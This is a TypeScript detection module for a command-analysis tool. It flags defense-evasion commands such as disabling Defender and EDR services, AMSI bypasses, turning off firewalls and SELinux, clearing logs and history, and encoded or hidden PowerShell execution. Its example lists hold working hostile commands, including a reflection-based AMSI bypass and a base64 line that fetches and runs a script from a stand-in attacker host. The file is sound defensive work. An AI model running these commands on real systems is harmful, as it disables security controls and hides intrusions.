import { hasArg, hasLong, hasShort, operands, type Cmd, type CommandRule, type Env, type Stage } from '../model.js';
import { startProcessHidden } from '../powershell.js';
import { encodedPipeline, encodedSubstitution, history, historyWrites, logClear, TRACES_PATTERNS } from './evasion-traces.js';

export const DEFENSE_EVASION_RULES: CommandRule[] = [
  {
    id: 'commands.defense-evasion.defender-disable',
    family: 'defense-evasion',
    severity: 'high',
    score: 0.8,
    attack: 'T1562.001',
    description: 'Antivirus/EDR disabled or excluded (Defender preferences, services, policies)',
    examples: {
      tp: ['Set-MpPreference -DisableRealtimeMonitoring $true', 'Add-MpPreference -ExclusionPath C:\\', 'sc config WinDefend start= disabled'],
      fp: ['Set-MpPreference -DisableRealtimeMonitoring $false', 'Get-MpPreference', 'Update-MpSignature'],
    },
  },
  {
    id: 'commands.defense-evasion.amsi-bypass',
    family: 'defense-evasion',
    severity: 'high',
    score: 0.85,
    attack: 'T1562.001',
    description: 'AMSI (antimalware scan interface) tampered with from PowerShell',
    examples: {
      tp: ["[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)", "$a=[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUtils')", '$p = [Win32]::GetProcAddress($h, "AmsiScanBuffer")'],
      fp: ['Get-Help about_Execution_Policies', 'AMSI lets antivirus products scan scripts at run time.', 'Write-Host "AMSI is enabled"'],
    },
  },
  {
    id: 'commands.defense-evasion.firewall-disable',
    family: 'defense-evasion',
    severity: 'medium',
    score: 0.6,
    attack: 'T1562.004',
    description: 'Host firewall turned off or its rules flushed',
    examples: {
      tp: ['sudo ufw disable', 'iptables -F', 'netsh advfirewall set allprofiles state off'],
      fp: ['sudo ufw allow 22/tcp', 'iptables -L -n', 'sudo ufw enable'],
    },
  },
  {
    id: 'commands.defense-evasion.selinux-disable',
    family: 'defense-evasion',
    severity: 'medium',
    score: 0.6,
    attack: 'T1562.001',
    description: 'SELinux or AppArmor switched off',
    examples: {
      tp: ['setenforce 0', "sed -i 's/^SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config", 'systemctl stop apparmor'],
      fp: ['getenforce', 'sestatus', 'setenforce 1'],
    },
  },
  {
    id: 'commands.defense-evasion.audit-disable',
    family: 'defense-evasion',
    severity: 'high',
    score: 0.8,
    attack: 'T1562.012',
    description: 'System auditing stopped or its rules deleted (auditd, auditpol)',
    examples: {
      tp: ['auditctl -D', 'systemctl stop auditd', 'auditpol /clear /y'],
      fp: ['auditctl -l', 'auditctl -w /etc/passwd -p wa -k passwd', 'auditpol /get /category:*'],
    },
  },
  {
    id: 'commands.defense-evasion.log-clear',
    family: 'defense-evasion',
    severity: 'high',
    score: 0.8,
    attack: 'T1070.002',
    description: 'System or event logs cleared, truncated or deleted',
    examples: {
      tp: ['wevtutil cl Security', '> /var/log/auth.log', 'journalctl --rotate && journalctl --vacuum-time=1s'],
      fp: ['tail -f /var/log/syslog', 'sudo journalctl --vacuum-time=7d', 'wevtutil qe System /c:5', 'find /var/log/nginx -name "*.gz" -mtime +7 -delete'],
    },
  },
  {
    id: 'commands.defense-evasion.history-clear',
    family: 'defense-evasion',
    severity: 'medium',
    score: 0.6,
    attack: 'T1070.003',
    description: 'Shell history cleared or disabled',
    examples: {
      tp: ['history -c', 'unset HISTFILE', 'export HISTFILESIZE=0; ln -sf /dev/null ~/.bash_history'],
      fp: ['history | grep ssh', 'export HISTSIZE=10000', 'echo $HISTFILE'],
    },
  },
  {
    id: 'commands.defense-evasion.encoded-exec',
    family: 'defense-evasion',
    severity: 'high',
    score: 0.8,
    attack: 'T1027',
    description: 'An encoded payload is decoded and executed (base64/xxd/openssl into an interpreter)',
    examples: {
      tp: ['echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA== | base64 -d | sh', 'eval "$(echo ZWNobyBoaQ== | base64 --decode)"', "python3 -c \"exec(__import__('base64').b64decode('cHJpbnQoMSk='))\""],
      fp: ['echo dGVzdA== | base64 -d', 'base64 -d cert.b64 > cert.pem', 'cat notes.txt | base64'],
    },
  },
  {
    id: 'commands.defense-evasion.powershell-encoded',
    family: 'defense-evasion',
    severity: 'high',
    score: 0.8,
    attack: 'T1027',
    description: 'PowerShell run with a base64 -EncodedCommand',
    examples: {
      tp: ['powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA', 'powershell.exe -NoP -NonI -W Hidden -EncodedCommand JABjAD0AMQA=', 'pwsh -e ZQBjAGgAbwAgAGgAaQA='],
      fp: ['powershell -File .\\build.ps1', 'powershell -Command "Get-Process"', 'pwsh -ExecutionPolicy Bypass -File setup.ps1'],
    },
  },
  {
    id: 'commands.defense-evasion.powershell-hidden',
    family: 'defense-evasion',
    severity: 'medium',
    score: 0.6,
    attack: 'T1564.003',
    description: 'PowerShell started hidden without profile or execution policy (stealthy launch)',
    examples: {
      tp: ['powershell -nop -w hidden -c "Start-Sleep 1"', 'powershell.exe -WindowStyle Hidden -ExecutionPolicy Bypass -File C:\\Users\\Public\\a.ps1', 'Start-Process powershell -WindowStyle Hidden -ArgumentList "-nop -ep bypass -f C:\\x.ps1"'],
      fp: ['powershell -ExecutionPolicy Bypass -File .\\setup.ps1', 'powershell -NoProfile -Command "Get-ChildItem"', 'Start-Process notepad.exe'],
    },
  },
];

const TRUE = new Set(['$true', 'true', '1']);
const EDR_SERVICES = /^(?:windefend|sense|wdnissvc|wdboot|wdfilter|falcon-sensor|cbagentd|carbonblack|sentinelone|sentinel-agent|cylancesvc|mdatp|wdavdaemon|sophos[\w-]{0,20}|ds_agent|clamav-daemon|clamd|osqueryd|wazuh-agent|ossec|elastic-agent|auditbeat|cbdaemon|xagt|taniumclient)(?:\.service)?$/;
const FIREWALL_SERVICES = /^(?:firewalld|ufw|iptables|ip6tables|nftables|netfilter-persistent|mpssvc)(?:\.service)?$/;
const BROAD_EXCLUSION = /^[a-z]:\\?$|\\temp\\?|\\appdata\\|\\users\\public|\\programdata\\?$|^\*|\$env:temp/;

function serviceAction(c: Cmd): { service: string; action: string } | undefined {
  if (c.name === 'systemctl') {
    const ops = operands(c);
    const action = ops[0];
    if (action === 'stop' || action === 'disable' || action === 'mask' || action === 'kill') return { service: (ops[1] ?? '').toLowerCase(), action };
  } else if (c.name === 'service' && (c.lower[1] === 'stop' || c.lower[1] === 'disable')) {
    return { service: c.lower[0] ?? '', action: c.lower[1] };
  } else if ((c.name === 'sc' || c.name === 'net') && (c.lower[0] === 'stop' || c.lower[0] === 'config' || c.lower[0] === 'delete')) {
    if (c.lower[0] === 'config' && !c.lower.includes('disabled')) return undefined;
    return { service: c.lower[1] ?? '', action: c.lower[0] };
  } else if (c.name === 'stop-service' || c.name === 'set-service' || c.name === 'remove-service') {
    if (c.name === 'set-service' && !c.lower.includes('disabled')) return undefined;
    return { service: c.lower.find((a) => !a.startsWith('-')) ?? '', action: c.name };
  } else if (c.name.startsWith('/etc/init.d/') || c.nameWord?.value.startsWith('/etc/init.d/')) {
    if (c.lower[0] === 'stop') return { service: c.name, action: 'stop' };
  }
  return undefined;
}

function defender(c: Cmd, env: Env): void {
  const l = c.lower;
  if (c.name === 'set-mppreference') {
    for (let i = 0; i < l.length; i++) {
      const a = l[i]!;
      const [param, inline] = a.split(':');
      if (!param!.startsWith('-disable') && param !== '-mapsreporting' && param !== '-submitsamplesconsent' && param !== '-puaprotection') continue;
      const value = inline ?? l[i + 1] ?? '';
      const off = param!.startsWith('-disable') ? TRUE.has(value) : value === '0' || value === 'disabled' || value === '2' || value === 'neversend';
      if (off) {
        env.report('commands.defense-evasion.defender-disable', c, `Set-MpPreference ${c.args[i]!.split(':')[0]} turns protection off`);
        return;
      }
    }
    return;
  }
  if (c.name === 'add-mppreference') {
    const i = l.findIndex((a) => a.startsWith('-exclusion'));
    if (i < 0) return;
    const value = c.win[i + 1] ?? '';
    const broad = BROAD_EXCLUSION.test(value);
    env.report('commands.defense-evasion.defender-disable', c, `Add-MpPreference ${c.args[i]} adds a Defender exclusion${broad ? ' for a broad or temporary location' : ''}`, broad ? {} : { severity: 'medium', score: 0.6 });
    return;
  }
  if (c.name === 'reg' && l[0] === 'add' && (c.win[1] ?? '').includes('windows defender') && l.some((a) => a.startsWith('disable'))) {
    env.report('commands.defense-evasion.defender-disable', c, 'reg add sets a Windows Defender Disable* policy');
    return;
  }
  if (c.name === 'mpcmdrun' && l.some((a) => a === '-removedefinitions')) {
    env.report('commands.defense-evasion.defender-disable', c, 'MpCmdRun removes the Defender signatures');
    return;
  }
  if ((c.name === 'uninstall-windowsfeature' || c.name === 'remove-windowsfeature' || c.name === 'disable-windowsoptionalfeature') && l.some((a) => a.includes('defender'))) {
    env.report('commands.defense-evasion.defender-disable', c, `${c.name} removes Windows Defender`);
    return;
  }
  const svc = serviceAction(c);
  if (svc && EDR_SERVICES.test(svc.service)) env.report('commands.defense-evasion.defender-disable', c, `${c.name} ${svc.action} of the security service ${svc.service}`);
}

function firewall(c: Cmd, env: Env): void {
  const detail = firewallOff(c);
  if (detail) env.report('commands.defense-evasion.firewall-disable', c, detail[0], detail[1] ? { severity: 'high', score: 0.75 } : {});
}

/** What turns the firewall off, and whether it is the whole host firewall (high). */
function firewallOff(c: Cmd): [string, boolean] | undefined {
  const l = c.lower;
  if (c.name === 'ufw') return operands(c).includes('disable') ? ['ufw disable', false] : undefined;
  if (c.name === 'iptables' || c.name === 'ip6tables' || c.name === 'iptables-legacy' || c.name === 'iptables-nft') return hasShort(c, 'F') || hasLong(c, '--flush') ? [`${c.name} flushes its rules`, false] : undefined;
  if (c.name === 'nft') return l.includes('flush') && l.includes('ruleset') ? ['nft flush ruleset', false] : undefined;
  if (c.name === 'netsh') {
    if (l.includes('advfirewall') && l.includes('state') && l.includes('off')) return ['netsh advfirewall turns the firewall off', true];
    if (l.includes('firewall') && l.includes('opmode') && l.some((a) => a === 'disable' || a === 'mode=disable')) return ['netsh firewall opmode disable', true];
    return undefined;
  }
  if (c.name === 'set-netfirewallprofile') {
    const off = l.some((a, i) => (a === '-enabled' && ['false', '$false', '0'].includes(l[i + 1] ?? '')) || a === '-enabled:$false' || a === '-enabled:false');
    return off ? ['Set-NetFirewallProfile -Enabled False', true] : undefined;
  }
  if (c.name === 'pfctl') return hasShort(c, 'd') ? ['pfctl -d disables the packet filter', false] : undefined;
  const svc = serviceAction(c);
  return svc && FIREWALL_SERVICES.test(svc.service) ? [`${c.name} ${svc.action} of ${svc.service}`, false] : undefined;
}

function selinux(c: Cmd, env: Env): void {
  if (c.name === 'setenforce' && (c.lower[0] === '0' || c.lower[0] === 'permissive')) {
    env.report('commands.defense-evasion.selinux-disable', c, 'setenforce switches SELinux to permissive');
    return;
  }
  if (c.name === 'aa-teardown' || (c.name === 'grubby' && c.lower.some((a) => a.includes('selinux=0')))) {
    env.report('commands.defense-evasion.selinux-disable', c, `${c.name} disables the mandatory access control`);
    return;
  }
  const svc = serviceAction(c);
  if (svc && (svc.service === 'apparmor' || svc.service === 'apparmor.service')) env.report('commands.defense-evasion.selinux-disable', c, `${c.name} ${svc.action} of AppArmor`);
}

function audit(c: Cmd, env: Env): void {
  if (c.name === 'auditctl' && (hasShort(c, 'D') || (c.args.includes('-e') && c.args[c.args.indexOf('-e') + 1] === '0'))) {
    env.report('commands.defense-evasion.audit-disable', c, hasShort(c, 'D') ? 'auditctl deletes all audit rules' : 'auditctl disables auditing');
    return;
  }
  if (c.name === 'auditpol' && (hasArg(c, '/clear', '/remove') || (hasArg(c, '/set') && c.lower.some((a) => a === '/success:disable' || a === '/failure:disable')))) {
    env.report('commands.defense-evasion.audit-disable', c, 'auditpol clears or disables the audit policy', { attack: 'T1562.002' });
    return;
  }
  if (c.name === 'wevtutil' && (c.lower[0] === 'sl' || c.lower[0] === 'set-log') && c.lower.some((a) => a === '/e:false' || a === '/enabled:false')) {
    env.report('commands.defense-evasion.audit-disable', c, 'wevtutil disables an event log', { attack: 'T1562.002' });
    return;
  }
  const svc = serviceAction(c);
  if (svc && (svc.service === 'auditd' || svc.service === 'auditd.service' || svc.service === 'eventlog')) env.report('commands.defense-evasion.audit-disable', c, `${c.name} ${svc.action} of ${svc.service}`, svc.service === 'eventlog' ? { attack: 'T1562.002' } : {});
}

export function evasionCommand(c: Cmd, env: Env): void {
  defender(c, env);
  firewall(c, env);
  selinux(c, env);
  audit(c, env);
  logClear(c, env);
  history(c, env);
  encodedSubstitution(c, env);
  startProcessHidden(c, env);
}

export function evasionPipeline(stages: Stage[], env: Env): void {
  historyWrites(stages, env);
  if (stages.length > 1) encodedPipeline(stages, env);
}

/** Every regex this module ships (checked for ReDoS by the tests). */
export const DEFENSE_EVASION_PATTERNS: readonly RegExp[] = [EDR_SERVICES, FIREWALL_SERVICES, BROAD_EXCLUSION, ...TRACES_PATTERNS];
